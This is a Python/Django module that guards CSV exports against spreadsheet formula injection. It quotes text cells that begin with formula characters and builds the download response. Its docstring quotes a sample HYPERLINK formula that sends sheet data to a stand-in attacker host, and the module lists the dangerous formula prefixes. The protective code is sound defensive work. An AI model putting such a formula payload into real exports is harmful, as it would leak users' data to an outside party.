"""CSV exports that a spreadsheet cannot run: every export writes through ``csv_response``.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before reading one of those) is taken for a formula when the file is
opened: a key-result title ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would leak
the sheet's data on a click. OWASP's "CSV Injection" advice is followed: such a text cell
gets a leading single quote, which spreadsheets show as text and never evaluate. Numbers
written by the app itself (``int``, ``Decimal``) are data, not typed text, and stay as they
are, so a negative figure remains a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet shows it as text: a quote before a formula-like string."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every text cell passes through ``safe_cell``."""

    def __init__(self, stream: Any) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_response(filename: str, header: list[str], rows: Iterable[Iterable[Any]]) -> HttpResponse:
    """A downloadable CSV file: the header, then the rows, each cell neutralised."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    writer = SafeWriter(response)
    writer.writerow(header)
    writer.writerows(rows)
    return response
